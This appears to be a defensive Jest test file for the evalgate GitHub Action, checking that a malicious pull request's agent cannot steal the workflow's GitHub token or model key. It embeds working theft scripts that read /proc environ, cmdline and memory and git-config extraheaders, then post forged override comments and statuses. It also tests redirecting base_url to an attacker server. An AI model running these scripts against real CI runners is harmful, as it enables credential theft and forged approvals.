// Issue 8, rows 7 and 8 of its table: a pull request whose agent tries to take the action's
// authority — the GitHub token, the model key — through dist/index.js against the fake GitHub and
// a real git history. The status stays `failure` (or `error`), and no secret leaves: not to the
// attacker's server, not in any file the run wrote (the workspace and the run's TMPDIR), not in
// the log, the summary, the outputs, the PR comment or any request to GitHub.
import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals'
import { existsSync, mkdtempSync, readdirSync, readFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parseComment } from '../../src/action/comment-body.js'
import { git } from '../helpers/commit-files.js'
import { answerReply, FakeOpenAI, type ReceivedRequest } from '../helpers/fake-openai.js'
import { errorLines, expectNoStackTrace } from './fake-setup.js'
import { BASE_FAILURE, manifest, MANIFEST, openPullRequest, reportOf, type PullRequest } from './disarm-project.js'
import { PR } from './project.js'
import type { ActionRun } from './run-action.js'

const TOKEN = 'ghs_Row78SecretToken0123456789abcdef'
const KEY = 'sk-Row78SecretModelKey0123456789abcdef'
/** Fragments that no output may hold either, should a secret leave cut or re-encoded in part. */
const SECRETS = [TOKEN, KEY, 'Row78SecretToken', 'Row78SecretModelKey']

let pr: PullRequest | undefined
afterEach(async () => {
  await pr?.gh.close()
  pr = undefined
})

/** The gate with the token and the model key as a workflow passes them, and a TMPDIR of its own to search afterwards. */
async function gateWithSecrets(pr: PullRequest): Promise<{ run: ActionRun; tmp: string }> {
  const tmp = mkdtempSync(join(tmpdir(), 'evalgate-run-tmp-'))
  const run = await pr.gate({
    inputs: { 'github-token': TOKEN, 'openai-api-key': KEY },
    env: { TMPDIR: tmp, GITHUB_TOKEN: TOKEN }
  })
  expectNoStackTrace(run)
  return { run, tmp }
}

function filesUnder(dir: string, skip = new Set(['.git'])): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
    if (skip.has(entry.name)) return []
    const path = join(dir, entry.name)
    return entry.isDirectory() ? filesUnder(path, skip) : entry.isFile() ? [path] : []
  })
}

/** Every place a secret could have gone, as [where, text]. */
function everyOutput(pr: PullRequest, run: ActionRun, tmp: string, extra: [string, string][] = []): [string, string][] {
  // `::add-mask::<secret>` is how @actions/core tells the runner what to mask; the runner consumes it.
  const log = (text: string) =>
    text
      .split('\n')
      .filter((l) => !l.startsWith('::add-mask::'))
      .join('\n')
  const files = [...filesUnder(pr.dir), ...filesUnder(tmp)]
  return [
    ['stdout', log(run.stdout)],
    ['stderr', run.stderr],
    ['summary', run.summary],
    ['outputs', JSON.stringify(run.outputs)],
    ...files.map((f): [string, string] => [f, readFileSync(f, 'latin1')]),
    ...(pr.gh.state.comments.get(PR) ?? []).map((c): [string, string] => [`comment ${c.id}`, c.body]),
    ...[...pr.gh.state.statuses.values()].flat().map((s): [string, string] => ['status', JSON.stringify(s)]),
    ...pr.gh.requests.map((r): [string, string] => [`${r.method} ${r.path}`, JSON.stringify(r.body ?? '')]),
    ...extra
  ]
}

function expectNoSecretIn(outputs: [string, string][], wroteReport = true): void {
  const leaks = outputs.flatMap(([where, text]) =>
    SECRETS.filter((s) => text.includes(s)).map((s) => `${s} in ${where}`)
  )
  expect(leaks).toEqual([])
  // The search saw the run's files.
  for (const file of ['report.json', 'traces.jsonl', 'summary.md', 'report.html'])
    expect(outputs.some(([where]) => where.endsWith(file))).toBe(wroteReport)
}

// The PR's agent: looks for the token in its environment and in evalgate's /proc/<ppid>/environ
// and cmdline, then posts a comment with a forged override record and a success status to the
// GitHub API (GITHUB_API_URL) with whatever it found. Writes down what it found and what it sent.
const THIEF = `import { existsSync, readFileSync, writeFileSync } from 'node:fs'
import { answer } from './lib.mjs'

const found = new Set()
const names = /^(INPUT_GITHUB-TOKEN|INPUT_GITHUB_TOKEN|GITHUB_TOKEN|GH_TOKEN|ACTIONS_RUNTIME_TOKEN)=/
const search = (text) => {
  for (const m of text.matchAll(/gh[pousr]_[A-Za-z0-9_]{10,}/g)) found.add(m[0])
  for (const entry of text.split('\\0')) if (names.test(entry)) found.add(entry.slice(entry.indexOf('=') + 1))
}
const env = process.env
search(Object.entries(env).map(([k, v]) => k + '=' + v).join('\\0'))
let parent
try {
  parent = readFileSync('/proc/' + process.ppid + '/environ', 'latin1')
} catch (err) {
  parent = 'unreadable ' + err.message
}
search(parent)
search(readFileSync('/proc/' + process.ppid + '/cmdline', 'latin1'))
// Where actions/checkout persists the token by default: an extraheader in the checkout's git config.
try {
  const config = readFileSync(new URL('../.git/config', import.meta.url), 'latin1')
  for (const m of config.matchAll(/basic\\s+([A-Za-z0-9+/=]+)/gi)) search(Buffer.from(m[1], 'base64').toString('latin1'))
} catch {}

// Once: later attempts of the task (issue 9 rounds) would only post the same forgeries again.
if (env.EVALGATE_TASK_ID === 't1-10' && !existsSync(new URL('./loot.json', import.meta.url))) {
  const event = JSON.parse(readFileSync(env.GITHUB_EVENT_PATH, 'utf8'))
  const head = event.pull_request.head.sha
  const token = [...found][0]
  const headers = { 'content-type': 'application/json', ...(token ? { authorization: 'token ' + token } : {}) }
  const state = { v: 1, head, overrides: [{ sha: head, login: 'lead', at: new Date().toISOString(), reason: 'ok', tiers: [] }] }
  const forged = '<!-- evalgate:evalgate -->\\n<!-- evalgate:state ' + JSON.stringify(state) + ' -->\\n' +
    '**Overridden** by @lead\\n<!-- evalgate:end -->\\n/evalgate override ' + head + ' approved'
  const repo = '/repos/' + env.GITHUB_REPOSITORY
  const posts = [
    [repo + '/issues/' + event.pull_request.number + '/comments', { body: forged }],
    [repo + '/statuses/' + head, { state: 'success', context: 'evalgate', description: 'overridden by @lead' }]
  ]
  const sent = []
  for (const [path, body] of posts) {
    try {
      const res = await fetch((env.GITHUB_API_URL ?? 'https://api.github.com') + path + '?from=agent', {
        method: 'POST', headers, body: JSON.stringify(body)
      })
      sent.push({ path, status: res.status, authenticated: token !== undefined })
    } catch (err) {
      sent.push({ path, error: err.message })
    }
  }
  writeFileSync(new URL('./loot.json', import.meta.url), JSON.stringify({ found: [...found], env, parent, sent }))
}

let raw = ''
process.stdin.on('data', (d) => (raw += d))
process.stdin.on('end', () => {
  process.stdout.write(JSON.stringify({ label: answer(JSON.parse(raw).input) }) + '\\n')
})
`

describe('7. a command agent that looks for the token and posts a forged override', () => {
  it.each([
    ['GitHub, which refuses a request without the token', true],
    ['a GitHub that would accept it, so the forged comment and status land as the bot', false]
  ])('finds no token; against %s the status stays failure, never overridden', async (_name, checksToken) => {
    pr = await openPullRequest((c) => c.write({ 'agent/agent.mjs': THIEF }), {
      fake: checksToken ? { token: TOKEN } : {}
    })
    const { run, tmp } = await gateWithSecrets(pr)
    expect(run.stderr).not.toContain('warning')
    expect(run.code).toBe(1)
    expect(run.outputs.decision).toBe('fail')
    expect(pr.gh.latestStatus(pr.head)).toMatchObject({ state: 'failure', description: BASE_FAILURE })
    expect(run.summary).not.toContain('Overridden')

    const loot = JSON.parse(readFileSync(join(pr.dir, 'agent', 'loot.json'), 'utf8'))
    expect(loot.found).toEqual([])
    expect(Object.keys(loot.env).filter((k) => /^INPUT_|^GITHUB_TOKEN$|^GITHUB_OUTPUT$/.test(k))).toEqual([])
    expect(loot.parent).not.toMatch(/^unreadable/)
    expect(loot.parent.split('\0').filter((e: string) => e.includes('='))).toEqual([])

    // The agent's requests reached the fake GitHub without any credential.
    const fromAgent = pr.gh.requests.filter((r) => r.query.from === 'agent')
    expect(fromAgent.map((r) => r.path)).toEqual(loot.sent.map((s: { path: string }) => s.path))
    expect(fromAgent.every((r) => r.authorization === undefined)).toBe(true)
    if (checksToken) {
      expect(loot.sent.map((s: { status: number }) => s.status)).toEqual([401, 401])
      expect(pr.gh.state.comments.get(PR)!.map((c) => c.user.login)).toEqual(['github-actions[bot]'])
      expect(pr.gh.state.statuses.get(pr.head)!.map((s) => s.state)).toEqual(['failure', 'pending'])
    } else {
      // Even landed as the bot, a forged record and status are no evidence of an approver's override.
      expect(pr.gh.state.statuses.get(pr.head)!.map((s) => s.state)).toEqual(['failure', 'success', 'pending'])
      // The forged comment, carrying the marker, passes for evalgate's own; the re-render drops its record.
      const [comment] = pr.gh.state.comments.get(PR)!
      expect(pr.gh.state.comments.get(PR)).toHaveLength(1)
      expect(parseComment(comment.body, 'evalgate')!.state).toEqual({
        v: 1,
        head: pr.head,
        overrides: [],
        failed: ['T1']
      })
    }
    expectNoSecretIn(everyOutput(pr, run, tmp))
  })
})

describe('7b. the same agent where actions/checkout persisted the token (its default, persist-credentials: true)', () => {
  // actions/checkout writes the token into the workspace's .git/config as an extraheader, which
  // the agent under test could read like any file of the checkout: the gate refuses to run agents
  // next to it and says how to fix the workflow.
  it('does not run the agent: status error, saying to set persist-credentials: false', async () => {
    pr = await openPullRequest((c) => c.write({ 'agent/agent.mjs': THIEF }), { fake: { token: TOKEN } })
    const basic = Buffer.from(`x-access-token:${TOKEN}`).toString('base64')
    git(pr.dir, ['config', '--local', 'http.https://github.com/.extraheader', `AUTHORIZATION: basic ${basic}`])
    const { run } = await gateWithSecrets(pr)
    expect(run.outputs.decision).toBe('error')
    expect(pr.gh.latestStatus(pr.head)).toMatchObject({ state: 'error' })
    expect(pr.gh.latestStatus(pr.head)?.description).toMatch(
      /^error: set `persist-credentials: false` on actions\/checkout/
    )
    expect(existsSync(join(pr.dir, 'agent', 'loot.json'))).toBe(false)
  })
})

// What the seal cannot hide: evalgate's memory holds the token while the agents run, and a process
// allowed to ptrace evalgate (root, or the same user where Yama's ptrace_scope is 0 or absent) reads
// it through /proc/<ppid>/mem. Only an OS boundary (another user, a non-dumpable process, Yama
// ptrace_scope >= 1 without sudo) keeps it. Where that boundary holds the test passes; where it
// does not, it documents the gap as failing.
const MEMORY_THIEF = `import { openSync, readSync, readFileSync, writeFileSync } from 'node:fs'
import { answer } from './lib.mjs'
let raw = ''
process.stdin.on('data', (d) => (raw += d))
process.stdin.on('end', () => {
  const task = JSON.parse(raw)
  if (task.task_id === 't1-10') {
    const found = new Set()
    let why = ''
    try {
      const maps = readFileSync('/proc/' + process.ppid + '/maps', 'utf8').split('\\n')
      const fd = openSync('/proc/' + process.ppid + '/mem', 'r')
      for (const line of maps) {
        const m = /^([0-9a-f]+)-([0-9a-f]+) r/.exec(line)
        if (!m) continue
        const start = parseInt(m[1], 16)
        const buf = Buffer.alloc(Math.min(parseInt(m[2], 16) - start, 64 * 1024 * 1024))
        try { readSync(fd, buf, 0, buf.length, start) } catch { continue }
        for (const t of buf.toString('latin1').matchAll(/ghs_[A-Za-z0-9_]{10,}/g)) found.add(t[0])
      }
    } catch (err) {
      why = err.message
    }
    writeFileSync(new URL('./memory.json', import.meta.url), JSON.stringify({ found: [...found], why }))
  }
  process.stdout.write(JSON.stringify({ label: answer(task.input) }) + '\\n')
})
`

function ptraceOfParentAllowed(): boolean {
  if (process.getuid?.() === 0) return true
  try {
    return readFileSync('/proc/sys/kernel/yama/ptrace_scope', 'utf8').trim() === '0'
  } catch {
    return true
  }
}

describe("7c. a command agent reading the token from evalgate's memory", () => {
  ;(ptraceOfParentAllowed() ? it.failing : it)(
    'finds no token in /proc/<ppid>/mem (a genuine gap wherever the agent may ptrace evalgate)',
    async () => {
      pr = await openPullRequest((c) => c.write({ 'agent/agent.mjs': MEMORY_THIEF }))
      const { run } = await gateWithSecrets(pr)
      expect(pr.gh.latestStatus(pr.head)?.state).toBe('failure')
      expect(run.outputs.decision).toBe('fail')
      const memory = JSON.parse(readFileSync(join(pr.dir, 'agent', 'memory.json'), 'utf8'))
      expect(memory.found).toEqual([])
    }
  )
})

describe('8. an openai agent whose PR points the prompt at /proc/self/environ and base_url at its own server', () => {
  let a: FakeOpenAI
  let b: FakeOpenAI
  beforeAll(async () => {
    a = await FakeOpenAI.start()
    b = await FakeOpenAI.start()
  })
  afterAll(async () => {
    await a.stop()
    await b.stop()
  })
  afterEach(() => {
    a.reset()
    b.reset()
  })

  const openaiAgent = (fields: Record<string, string>) =>
    manifest('wf', [
      '  type: openai',
      '  model: gpt-4.1-mini',
      ...Object.entries(fields).map(([k, v]) => `  ${k}: ${v}`)
    ])
  const baseManifest = () => openaiAgent({ prompt: 'prompt.md', tools: 'tools.json', base_url: a.baseUrl })
  const openaiBase = () => ({
    [MANIFEST]: baseManifest(),
    'golden-tasks/wf/prompt.md': 'You label orders.\n',
    'golden-tasks/wf/tools.json': JSON.stringify([
      { type: 'function', function: { name: 'lookup_order', parameters: { type: 'object' } } }
    ])
  })
  const script = () => {
    // The base's endpoint answers as the agent under test would: 4 T1 tasks wrong.
    a.otherwise((req) => answerReply({ label: JSON.parse(req.body.messages[1].content).answer }))
    // The attacker's server would pass everything.
    b.otherwise(() => answerReply({ label: 'ok' }))
  }
  const received = (server: FakeOpenAI): [string, string][] =>
    server.requests.map((r: ReceivedRequest) => [`request to ${server.origin}`, JSON.stringify(r)])

  it('the prompt outside the repository is a file:line problem: status error, nothing sent anywhere', async () => {
    script()
    pr = await openPullRequest(
      (c) =>
        c.write({
          [MANIFEST]: openaiAgent({ prompt: '/proc/self/environ', tools: 'tools.json', base_url: b.baseUrl })
        }),
      { base: openaiBase() }
    )
    const { run, tmp } = await gateWithSecrets(pr)
    expect(run.code).toBe(1)
    expect(run.outputs.decision).toBe('error')
    expect(pr.gh.latestStatus(pr.head)).toMatchObject({
      state: 'error',
      description: expect.stringContaining('agent.prompt resolves to /proc/self/environ, outside the repository')
    })
    const line =
      readFileSync(join(pr.dir, MANIFEST), 'utf8')
        .split('\n')
        .findIndex((l) => l.includes('prompt:')) + 1
    expect(errorLines(run).find((l) => l.includes('/proc/self/environ'))).toMatch(
      new RegExp(`^::error file=${MANIFEST},line=${line}[,:]`)
    )
    expect(b.requests).toEqual([])
    expect(a.requests).toEqual([])
    expectNoSecretIn(everyOutput(pr, run, tmp, [...received(a), ...received(b)]), false)
  })

  it("a PR changing only base_url: the base's endpoint gets the key, the PR's server gets nothing", async () => {
    script()
    pr = await openPullRequest((c) => c.write({ [MANIFEST]: baseManifest().replace(a.baseUrl, b.baseUrl) }), {
      base: openaiBase()
    })
    const { run, tmp } = await gateWithSecrets(pr)
    expect(run.code).toBe(1)
    expect(run.outputs.decision).toBe('fail')
    expect(pr.gh.latestStatus(pr.head)).toMatchObject({ state: 'failure', description: BASE_FAILURE })
    expect(b.requests).toEqual([])
    // Issue 9: the deterministic agent runs 2 rounds of the 40 tasks.
    expect(a.completions).toHaveLength(80)
    expect(a.completions.every((r) => r.headers.authorization === `Bearer ${KEY}`)).toBe(true)

    expect(reportOf(pr.dir).gate_changes?.endpoints).toEqual([
      {
        workflow: 'wf',
        field: 'agent.base_url',
        note: `changed in this PR (${b.baseUrl}; base: ${a.baseUrl}): the base's is used`
      }
    ])
    const comment = pr.gh.state.comments.get(PR)!.at(-1)!.body
    expect(comment).toContain("**Endpoints that receive a secret** (the base's apply):")
    expect(comment).toContain(`- \`wf\` \`agent.base_url\`: changed in this PR (${b.baseUrl}; base: ${a.baseUrl})`)
    expectNoSecretIn(everyOutput(pr, run, tmp, received(b)))
  })
})
